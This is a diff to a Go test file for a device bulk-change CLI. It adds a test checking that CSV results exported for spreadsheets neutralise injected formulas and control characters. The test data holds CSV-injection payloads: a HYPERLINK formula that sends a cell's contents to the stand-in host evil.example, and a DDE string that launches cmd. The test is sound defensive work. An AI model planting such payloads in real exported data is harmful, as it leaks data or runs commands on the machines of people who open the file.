@@ -3,6 +3,7 @@ package main
 import (
 	"bytes"
 	"context"
+	"encoding/csv"
 	"flag"
 	"fmt"
 	"os"
@@ -361,4 +362,41 @@ func TestHelpNeedsNoConfiguration(t *testing.T) {
 	var out, errOut bytes.Buffer
 	require.Equal(t, 2, run(context.Background(), []string{"status", "x"}, &out, &errOut))
 	require.Contains(t, errOut.String(), "database.url", "without help, the configuration is checked")
+}
+
+// Texts that reach results from outside (ThingSpace's and Rev.io's error
+// messages, callbacks) cannot plant a formula in the CSV an operator opens
+// in a spreadsheet, nor control characters.
+func TestResultsCSVIsInertInASpreadsheet(t *testing.T) {
+	ds := devices(t, "8914811009", "active", 3)
+	f := file(t, "inert.csv", "iccid,operation\n"+ds[0].ICCID+",suspend\n"+ds[1].ICCID+",suspend\n"+ds[2].ICCID+",suspend\n")
+	code, out, errOut := starter(t, "submit", "--file", f, "--wait", "--callback-timeout", "5s")
+	require.Equal(t, 0, code, errOut)
+	id := strings.Fields(strings.SplitN(out, "bulk change ", 2)[1])[0]
+	hostile := map[string][2]string{ // iccid → error message, billing error
+		ds[0].ICCID: {`=HYPERLINK("http://evil.example/?"&A1,"details")`, "@SUM(1+1)*cmd|' /C calc'!A0"},
+		ds[1].ICCID: {"+1-2", "-2+3"},
+		ds[2].ICCID: {"\tindented\x07 bell\r\nnext line", "\rcarriage"},
+	}
+	for iccid, texts := range hostile {
+		_, err := st.Store.Pool.Exec(context.Background(),
+			`UPDATE device_changes SET error_message = $1, billing_error = $2 WHERE bulk_change_id = $3 AND iccid = $4`,
+			texts[0], texts[1], id, iccid)
+		require.NoError(t, err)
+	}
+
+	code, out, errOut = starter(t, "results", id, "--csv")
+	require.Equal(t, 0, code, errOut)
+	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
+	require.NoError(t, err)
+	require.Len(t, rows, 4, "header and one line per device:\n%s", out)
+	got := map[string][2]string{}
+	for _, r := range rows[1:] {
+		got[r[0]] = [2]string{r[8], r[10]}
+	}
+	require.Equal(t, map[string][2]string{
+		ds[0].ICCID: {`'=HYPERLINK("http://evil.example/?"&A1,"details")`, "'@SUM(1+1)*cmd|' /C calc'!A0"},
+		ds[1].ICCID: {"'+1-2", "'-2+3"},
+		ds[2].ICCID: {"' indented  bell  next line", "' carriage"},
+	}, got)
 }
